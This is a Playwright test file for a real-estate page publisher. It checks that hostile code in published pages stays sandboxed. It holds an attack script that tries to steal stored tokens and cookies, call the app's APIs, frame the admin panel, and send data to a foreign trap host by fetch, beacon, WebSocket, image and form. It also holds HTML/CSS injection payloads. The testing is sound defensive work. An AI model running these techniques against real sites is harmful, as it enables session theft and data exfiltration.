import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { eq } from 'drizzle-orm';
import { ensureHotsite, pageFacts, publishGenerated } from '#server/da-pasta-a-pagina/hotsites/service.ts';
import { hotsites, hotsiteVersoes } from '#server/db/schema/empreendimentos.ts';
import { flatPicture } from '#tests/fixtures/flat-picture.ts';
import {
  assetOf,
  blueprintFixture,
  catalogOf,
  insertEmpreendimento,
  sourceOf,
} from '#tests/fixtures/hotsite.ts';
import { type ProductHere, startProductHere } from '../product-here.ts';

test.use({ contextOptions: { reducedMotion: 'no-preference' } });

// One worker, one product for all tests of this file.
test.describe.configure({ mode: 'default' });
let product: ProductHere;
let token: string;
/** A foreign host: a request to it has escaped the page. */
let trap: Server;
const trapped: string[] = [];

test.beforeAll(async () => {
  test.setTimeout(120_000);
  product = await startProductHere();
  token = await product.login();
  trap = createServer((request, reply) => {
    trapped.push(`${request.method} ${request.url}`);
    reply.writeHead(200, { 'access-control-allow-origin': '*' }).end('x');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
});
test.afterAll(async () => {
  trap?.closeAllConnections();
  trap?.close();
  await product?.stop();
});

async function newHotsite() {
  const empreendimentoId = await insertEmpreendimento(product.db);
  const hotsite = await product.db.transaction((tx) =>
    ensureHotsite(tx, { empreendimentoId, nome: 'Residencial Aurora' }),
  );
  return { ...hotsite, empreendimentoId };
}

async function publish(hotsite: Awaited<ReturnType<typeof newHotsite>>, source = sourceOf()) {
  const asset = assetOf('a1');
  for (const { url, format, width } of asset.variants)
    await product.storage.put(
      url.replace('/media/', ''),
      await flatPicture(width, format as 'jpeg'),
      `image/${format}`,
    );
  const video = assetOf('v1', { type: 'video', url: '/media/video/v1.mp4', variants: [] });
  await product.storage.put('video/v1.mp4', Buffer.alloc(2000, 1), 'video/mp4');
  return publishGenerated(product, {
    hotsiteId: hotsite.id,
    source,
    blueprint: blueprintFixture,
    facts: await pageFacts(product.db, hotsite.empreendimentoId),
    catalog: catalogOf([asset, video]),
    style: 'luxury',
    engine: 'Motor local',
    motivo: 'Super AI',
    autorId: null,
    runId: null,
  });
}

/**
 * Puts code into a public version, bypassing the sanitiser as if it had failed. Scripts in it are not
 * executed by us: `inject` adds one to the page, to test the headers.
 */
async function plant(html: string, css: string, js: string): Promise<string> {
  const hotsite = await newHotsite();
  const { versaoId } = await publish(hotsite);
  const file = async (kind: 'html' | 'css' | 'js', text: string) => {
    const key = `hotsites/xx/${hotsite.rota}.${kind}`;
    await product.storage.put(key, Buffer.from(text), `text/${kind}`);
    return key;
  };
  const files = {
    htmlFile: await file('html', html),
    cssFile: await file('css', css),
    jsFile: await file('js', js),
  };
  await product.db.update(hotsiteVersoes).set(files).where(eq(hotsiteVersoes.id, versaoId));
  await product.db.update(hotsites).set({ versaoPublicaId: versaoId }).where(eq(hotsites.id, hotsite.id));
  return `${product.url}/hotsite/${hotsite.rota}`;
}

/** Everything a page might try; results are written into the document. */
const attack = (foreign: string) => `
const results = {};
const attempt = async (name, work) => {
  try { results[name] = 'got ' + String(await work()); } catch (error) { results[name] = error.name; }
};
const framed = (src) => new Promise((resolve, reject) => {
  const frame = document.createElement('iframe');
  frame.src = src;
  frame.onload = () => { try { resolve(frame.contentWindow.localStorage.getItem('token')); } catch (e) { reject(e); } };
  frame.onerror = reject;
  setTimeout(() => reject(new DOMException('', 'NotLoaded')), 1500);
  document.body.append(frame);
});
(async () => {
  await attempt('token', () => localStorage.getItem('token'));
  await attempt('sessionStorage', () => sessionStorage.length);
  await attempt('cookie', () => document.cookie);
  await attempt('indexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('x'); r.onsuccess = resolve; r.onerror = () => reject(r.error); }));
  await attempt('caches', () => caches.keys());
  await attempt('serviceWorker', () => navigator.serviceWorker.register('/sw.js'));
  await attempt('api', () => fetch('/api/empreendimentos').then((r) => r.text()));
  await attempt('publicApi', () => fetch('/api/public/hotsites/x').then((r) => r.text()));
  await attempt('apiNoCors', () => fetch('/api/empreendimentos', { mode: 'no-cors' }).then((r) => r.type));
  await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', '/api/sessao'); x.onload = () => resolve(x.status); x.onerror = () => reject(new DOMException('', 'NetworkError')); x.send(); }));
  await attempt('frame', () => framed('/admin/empreendimentos'));
  await attempt('opener', () => opener.localStorage.getItem('token'));
  await attempt('parent', () => { if (parent === window) throw new DOMException('', 'NoParent'); return parent.location.href; });
  await attempt('popup', () => { const w = open('/login'); if (!w) throw new DOMException('', 'NoPopup'); try { return w.localStorage.getItem('token'); } finally { w.close(); } });
  await attempt('foreignFetch', () => fetch('${foreign}/fetch', { mode: 'no-cors' }).then((r) => r.type));
  await attempt('beacon', () => { if (!navigator.sendBeacon('${foreign}/beacon', 'x')) throw new DOMException('', 'NotSent'); });
  await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = () => reject(new DOMException('', 'NotLoaded')); i.src = '${foreign}/image.png'; }));
  await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket('${foreign}/ws'.replace('http', 'ws')); s.onopen = resolve; s.onerror = () => reject(new DOMException('', 'NotOpened')); }));
  await attempt('stream', () => new Promise((resolve, reject) => { const s = new EventSource('${foreign}/events'); s.onopen = resolve; s.onerror = () => { s.close(); reject(new DOMException('', 'NotOpened')); }; }));
  await attempt('worker', () => new Promise((resolve, reject) => { const w = new Worker('${foreign}/w.js'); w.onmessage = resolve; w.onerror = () => reject(new DOMException('', 'NotLoaded')); }));
  await attempt('import', () => import('${foreign}/m.js'));
  await attempt('eval', () => eval('1'));
  for (const [tag, attrs] of [
    ['script', { src: '${foreign}/s.js' }], ['link', { rel: 'stylesheet', href: '${foreign}/s.css' }],
    ['link', { rel: 'prefetch', href: '${foreign}/p' }], ['link', { rel: 'preload', as: 'image', href: '${foreign}/pre.png' }],
    ['iframe', { src: '${foreign}/frame' }], ['object', { data: '${foreign}/o' }], ['embed', { src: '${foreign}/e' }],
    ['video', { src: '${foreign}/v.mp4', preload: 'auto' }], ['audio', { src: '${foreign}/a.mp3', preload: 'auto' }],
  ]) { const el = document.createElement(tag); for (const k in attrs) el.setAttribute(k, attrs[k]); document.body.append(el); }
  const form = document.createElement('form');
  form.action = '${foreign}/form'; form.method = 'post'; document.body.append(form);
  try { form.submit(); } catch {}
  const own = new Blob(['1'], { type: 'text/javascript' });
  await attempt('blobScript', () => new Promise((resolve, reject) => { const s = document.createElement('script'); s.src = URL.createObjectURL(own); s.onload = resolve; s.onerror = () => reject(new DOMException('', 'NotLoaded')); document.body.append(s); }));
  await new Promise((r) => setTimeout(r, 500));
  document.documentElement.dataset.results = JSON.stringify(results);
})();`;

/** Appends a script to ours in transit, as if sanitiser and interface had both failed. */
const inject = (page: Page, code: string) =>
  page.route('**/pagina/*.js', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: `${await answer.text()}\n${code}` });
  });

test('SAF-01 a free script that is stored is not run', async ({ page }) => {
  const free = "document.title = 'run'; pagina.on('load', 'body', 'addClass', 'body', { class: 'chamada' });";
  await page.goto(await plant('<h1>x</h1>', '', free));
  await expect(page.locator('body.chamada')).toHaveCount(1);
  expect(await page.title()).not.toBe('run');
});

test('PUB-10 T1 R20 hostile code in a public page reaches neither token nor storage nor API nor another host', async ({
  page,
}) => {
  const foreign = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  const address = await plant(
    `<h1>x</h1><img src="${foreign}/img.png" onerror="document.title='inline'"><p style="background:url(${foreign}/style.png)">y</p>
<svg><image href="${foreign}/svg.png"></image></svg><form action="${foreign}/html-form"><button>z</button></form>
<script>document.title='inline'</script><meta http-equiv="refresh" content="0;url=${foreign}/refresh">`,
    `@import "${foreign}/import.css";@font-face{font-family:f;src:url(${foreign}/f.woff2)}h1{font-family:f;background:url(${foreign}/css.png)}`,
    attack(foreign),
  );
  await inject(page, attack(foreign));
  await page.goto(`${product.url}/login`);
  await page.evaluate((value) => localStorage.setItem('token', value), token);
  const calls: string[] = [];
  product.server.on('request', ({ url, headers }) => {
    // The panel in the popup calls with its token; code of the page has none.
    if (url?.startsWith('/api/') && !headers.authorization) calls.push(url);
  });
  await page.goto(address);
  // Read without a locator, which would wait for the end of the sending that the policy refused.
  const said = () => page.evaluate(() => document.documentElement.dataset.results ?? '');
  await expect.poll(said, { timeout: 20_000 }).not.toBe('');
  // Chromium says "sent" of a beacon it drops; the host at the other end is what counts.
  const { beacon: _beacon, ...results } = JSON.parse(await said());
  expect(page.url()).toBe(address);
  for (const [name, result] of Object.entries(results)) expect(result, name).not.toMatch(/^got/);
  expect(results).toMatchObject({
    token: 'SecurityError',
    sessionStorage: 'SecurityError',
    cookie: 'SecurityError',
    api: 'TypeError',
    publicApi: 'TypeError',
    xhr: 'NetworkError',
  });
  await page.waitForTimeout(300);
  expect(await page.title()).not.toBe('inline');
  expect(trapped).toEqual([]);
  expect(calls).toEqual([]);
});

test('R20 a page opened from the panel holds no tie to it', async ({ page, context }) => {
  const address = await plant('<h1>x</h1>', '', '');
  await page.goto(`${product.url}/login`);
  await page.evaluate((value) => localStorage.setItem('token', value), token);
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((url) => {
      window.open(url);
    }, address),
  ]);
  expect(await opened.evaluate(() => window.opener)).toBeNull();
});

test('PUB-04 in its isolation a page still has its fonts, pictures, video, style and script', async ({
  page,
}) => {
  const hotsite = await newHotsite();
  const source = sourceOf();
  await publish(hotsite, {
    ...source,
    html: source.html.replace('</main>', '<video src="asset:v1" preload="metadata"></video></main>'),
    css: `${source.css}h1{font-family:"Bodoni Moda","Bodoni Moda fallback"}`,
  });
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  const video = page.waitForResponse((answer) => answer.url().endsWith('/media/video/v1.mp4'));
  const answer = await page.goto(`${product.url}/hotsite/${hotsite.rota}`);
  expect(answer?.status()).toBe(200);
  expect([200, 206]).toContain((await video).status());
  await expect(page.locator('body.com-script')).toHaveCount(1);
  const image = page.locator('img[data-asset="a1"]');
  await expect.poll(() => image.evaluate((node: HTMLImageElement) => node.naturalWidth)).toBeGreaterThan(0);
  expect(await image.evaluate((node: HTMLImageElement) => node.currentSrc)).toMatch(/\.avif$/);
  await expect
    .poll(() =>
      page.evaluate(() =>
        [...document.fonts].some((font) => font.family.includes('Bodoni') && font.status === 'loaded'),
      ),
    )
    .toBe(true);
  expect(await page.evaluate(() => origin)).toBe('null');
  expect(complaints.filter((text) => /Content Security Policy|CORS|blocked/i.test(text))).toEqual([]);
});
